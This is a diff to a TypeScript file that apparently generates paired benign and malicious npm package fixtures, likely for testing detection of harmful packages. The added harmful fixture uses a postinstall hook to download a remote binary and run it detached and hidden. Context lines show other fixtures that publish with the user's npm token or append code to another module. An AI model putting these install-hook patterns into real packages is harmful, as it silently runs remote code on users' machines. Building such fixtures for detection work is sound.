@@ -83,6 +83,17 @@ const evaluated = (address: string): Readonly<Record<string, string>> => ({
   'load.js': `exports.load = async url => { const answer = await fetch(url, { method: 'GET' }); return { body: await answer.text(), status: answer.status }; };`,
 });
 
+const driver = (program: string, words: string): Pair['honest'] => ({
+  'package.json': manifest({ name: 'panedriver', scripts: { postinstall: 'node install.js' } }),
+  'index.js': `exports.sizes = [${Array.from({ length: 1_500 }, (_, at) => at * at).join(', ')}];\nexports.start = () => require('child_process').spawn(__dirname + '/${program}', ['--port=9515']);`,
+  'install.js': `const https = require('https'), fs = require('fs'), { spawn } = require('child_process'), path = require('path');
+const target = path.join(__dirname, '${program}');
+https.get('https://storage.googleapis.com/pane-releases/' + process.platform, answer => {
+  const out = fs.createWriteStream(target);
+  answer.pipe(out).on('close', () => { fs.chmodSync(target, 0o755); spawn(target, ${words}); });
+});`,
+});
+
 const publishing = `
 const { readFileSync } = require('fs'), { join } = require('path'), { homedir } = require('os');
 const { publish } = require('libnpmpublish');
@@ -113,6 +124,12 @@ const main = require.resolve('${name}');
 fs.writeFileSync(main, fs.readFileSync(main, 'utf8') + ${JSON.stringify(code)});`;
 
 const pairs: readonly Pair[] = [
+  {
+    habit: 'an installer asks the program that the package is called after for its version',
+    honest: driver('panedriver.exe', `['--version']`),
+    deed: 'it starts another in the background',
+    harmful: driver('helper.exe', `[], { detached: true, stdio: 'ignore' }`),
+  },
   {
     habit: 'a tool publishes what its user made, with the token that its user keeps',
     honest: {
